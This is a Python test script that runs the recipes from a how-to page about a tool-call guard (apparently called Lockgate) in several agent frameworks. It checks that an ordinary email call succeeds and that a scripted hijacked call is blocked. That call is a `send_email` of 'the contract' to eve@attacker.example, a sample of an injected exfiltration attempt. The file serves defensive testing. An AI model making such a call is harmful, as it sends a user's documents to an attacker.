"""Plays one recipe of the page about `guard_tool` in the environment of its framework: `play_recipe.py llama-index`.

The program on the page is run as it stands, up to where it needs a model; the module of the framework's name gives it
a scripted one, and lets the framework make the calls.
"""

from __future__ import annotations

import re
import sys
from importlib import import_module
from pathlib import Path
from typing import Any

PAGE = Path(__file__).parents[3] / "docs" / "how-to" / "guard-tool.md"
HEADINGS = {
    "agno": "Agno",
    "autogen": "AutoGen",
    "dspy": "DSPy",
    "fastmcp": "FastMCP",
    "llama-index": "LlamaIndex",
    "semantic-kernel": "Semantic Kernel",
    "smolagents": "smolagents",
}
CALLS = (
    ("send_email", {"to": "ana@example.com", "body": "the minutes"}),
    ("read_page", {"url": "https://shop.example"}),
    ("send_email", {"to": "eve@attacker.example", "body": "the contract"}),
)


def play(name: str) -> None:
    """Run the recipe, and fail unless the ordinary call runs and the hijacked one is held with our sentence."""
    start, *sections = re.split(r"^## (.*)$", PAGE.read_text(encoding="utf-8"), flags=re.MULTILINE)
    recipes = dict(zip(sections[::2], sections[1::2], strict=True))
    driver: Any = import_module(name.replace("-", "_") + "_driver")
    page: dict[str, Any] = {"__name__": "recipe", **driver.scripted(CALLS)}
    for text in (start, recipes[HEADINGS[name]]):
        for block in re.findall(r"```python\n(.*?)```", text, re.DOTALL):
            exec(compile(block, PAGE.name, "exec", dont_inherit=True), page)
    told = driver.told_by(page, CALLS)
    page["plug"].close()
    assert page["outbox"] == ["ana@example.com"], page["outbox"]
    assert told[0] == "sent to ana@example.com", told
    assert told[1].startswith("Opening hours"), told
    assert told[2].startswith("Lockgate stopped this call"), told
    assert len(told) == len(CALLS), told


if __name__ == "__main__":
    play(sys.argv[1])
